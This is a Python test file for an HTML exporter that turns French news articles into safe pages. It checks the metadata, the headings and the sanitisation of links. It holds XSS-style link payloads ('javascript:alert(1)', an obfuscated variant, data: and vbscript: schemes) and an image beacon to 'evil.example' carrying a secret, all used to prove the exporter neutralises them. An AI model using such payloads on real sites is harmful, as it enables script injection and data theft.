"""The HTML file: complete, true, and harmless whatever the article says."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.export.html import ALLOWED_TAGS, to_html
from assistant.export.publication import Publication, printable_line
from assistant.model import Article
from assistant.text.markup import escape_markdown, parse_markdown
from tests.export.hostile import HOSTILE_TEXTS
from tests.export.reading import Page

ARTICLE = Article(
    markdown=(
        "# Le pont rouvre\n\nAprès un an de *travaux*.\n\n## Lundi\n\n> Enfin !\n\n- vélos\n- piétons\n\n"
        "### La suite\n\nVoir [la mairie](https://mairie.example/pont?a=1&b=2) ou [écrire](mailto:pont@mairie.example)."
    ),
    keyphrase="pont",
    synonyms=("passerelle",),
    title="Le pont « rouvre » & c’est tout",
    description='Le pont dit "bonjour" <lundi>.',
    slug="le-pont-rouvre",
)
PUBLICATION = Publication(ARTICLE, "2026-03-02T08:00:00+00:00", "2026-03-03T09:00:00+00:00")
FRAME = {"html", "head", "meta", "title", "script", "style", "body", "article"}


def page_of(article: Article) -> Page:
    return Page(to_html(replace(PUBLICATION, article=article)))


def news_data(page: Page) -> dict[str, object]:
    data: dict[str, object] = json.loads(page.text_of("script"))
    return data


def test_the_head_says_what_the_article_is() -> None:
    page = Page(to_html(PUBLICATION))
    assert page.elements[0] == ("html", {"lang": "fr"})
    assert page.text_of("title") == ARTICLE.title
    assert page.attribute("meta", "name", "description", "content") == ARTICLE.description


def test_the_news_data_hold_only_what_is_known() -> None:
    assert news_data(Page(to_html(PUBLICATION))) == {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": ARTICLE.title,
        "description": ARTICLE.description,
        "inLanguage": "fr",
        "keywords": ["pont", "passerelle"],
        "dateCreated": "2026-03-02T08:00:00+00:00",
        "dateModified": "2026-03-03T09:00:00+00:00",
    }


def test_an_article_without_details_has_none_in_its_data() -> None:
    page = Page(to_html(Publication(Article("# Le pont\n\nRouvre."))))
    assert news_data(page) == {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": "Le pont",
        "inLanguage": "fr",
    }
    assert page.text_of("title") == "Le pont"


def test_the_body_has_the_marks_of_the_markdown() -> None:
    page = Page(to_html(PUBLICATION))
    assert page.headings == [(1, "Le pont rouvre"), (2, "Lundi"), (3, "La suite")]
    assert [text for tag, text in page.texts if tag == "li"] == ["vélos", "piétons"]
    assert page.text_of("em") == "travaux"
    links = [attributes["href"] for tag, attributes in page.elements if tag == "a"]
    assert links == ["https://mairie.example/pont?a=1&b=2", "mailto:pont@mairie.example"]


@pytest.mark.parametrize(
    ("markdown", "headings"),
    [
        ("# Un\n\n# Deux\n\nTexte.", [(1, "Un"), (2, "Deux")]),
        ("## Partie\n\nTexte.", [(1, "Le pont"), (2, "Partie")]),
        ("", [(1, "Le pont")]),
    ],
)
def test_there_is_one_first_heading(markdown: str, headings: list[tuple[int, str]]) -> None:
    assert page_of(Article(markdown, title="Le pont")).headings == headings


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JAVA&#115;cript:x",
        "data:text/html,x",
        "/relative",
        "//host/x",
        "vbscript:x",
        "file:///x",
    ],
)
def test_a_link_outside_the_web_and_mail_stays_text(address: str) -> None:
    page = page_of(Article(f"# T\n\n[lien]({address}) et <{address}>"))
    assert [tag for tag, _ in page.elements if tag == "a"] == []


def test_a_picture_becomes_a_visible_link() -> None:
    page = page_of(Article("# T\n\n![pixel](https://evil.example/?q=SECRET)"))
    assert [tag for tag, _ in page.elements if tag == "img"] == []
    assert page.text_of("a") == "pixel"


def assert_harmless(page: Page) -> None:
    inside = False
    for tag, attributes in page.elements:
        assert tag in ALLOWED_TAGS | FRAME
        assert (tag in FRAME) != inside
        inside = inside or tag == "article"
        if inside and tag != "article":
            assert set(attributes) <= {"href", "rel", "start"}
            assert attributes.get("href", "https://").startswith(("https://", "http://", "mailto:"))
    assert [tag for tag, _ in page.elements].count("script") == 1
    assert news_data(page)["@type"] == "NewsArticle"


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_hostile_markdown_is_shown_and_does_nothing(text: str) -> None:
    assert_harmless(page_of(Article(text)))
    assert_harmless(page_of(Article(f"# T\n\n- {text}\n\n> {text}\n\n## {text}")))


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_hostile_details_come_through_as_text(text: str) -> None:
    article = Article(
        f"# {escape_markdown(printable_line(text))}\n\nTexte.",
        title=text,
        description=text,
        keyphrase=text,
        synonyms=(text,),
        slug=text,
        language=text,
    )
    page = page_of(article)
    assert_harmless(page)
    line = printable_line(text)
    assert page.text_of("title") == line
    assert [" ".join(found.split()) for _, found in page.headings] == [" ".join(line.split())]
    assert page.attribute("meta", "name", "description", "content") == line
    assert news_data(page)["description"] == line


pieces = st.sampled_from(
    [
        *("# ", "## ", "### ", "texte", " ", "\n", "\n\n", "> ", "- ", "1. ", "*", "**", "`", "```\n", "<b>"),
        *(
            "<!--",
            "[a](",
            ")",
            "![",
            "](x)",
            "https://a.example",
            "&lt;",
            "\\",
            "---",
            "===",
            "\x07",
            "\u202e",
            "\u2067",
            "<script>",
            "\xe9",
            "\ufeff",
        ),
    ]
)


@given(st.lists(pieces, max_size=25).map("".join))
@settings(max_examples=150, deadline=None)
def test_whatever_the_markdown_the_page_is_harmless(markdown: str) -> None:
    page = page_of(Article(markdown))
    assert_harmless(page)
    assert [level for level, _ in page.headings].count(1) <= 1


headings = st.text(
    st.characters(exclude_categories=["C", "Z"]) | st.sampled_from(" #*_[]<>!`\\-&\u202f"), min_size=1, max_size=20
)


@given(st.lists(st.tuples(st.sampled_from([2, 3]), headings.map(str.strip).filter(bool)), max_size=5))
@settings(max_examples=100, deadline=None)
def test_the_headings_of_the_page_are_those_of_the_article(rows: list[tuple[int, str]]) -> None:
    parts = [f"{'#' * level} {escape_markdown(text)}\n\nTexte." for level, text in rows]
    markdown = "\n\n".join(["# Titre", *parts])
    expected = [(block.level, block.text) for block in parse_markdown(markdown) if block.kind == "heading"]
    read = page_of(Article(markdown)).headings
    assert [(level, " ".join(text.split(" "))) for level, text in read] == [
        (level, " ".join(text.split(" "))) for level, text in expected
    ]
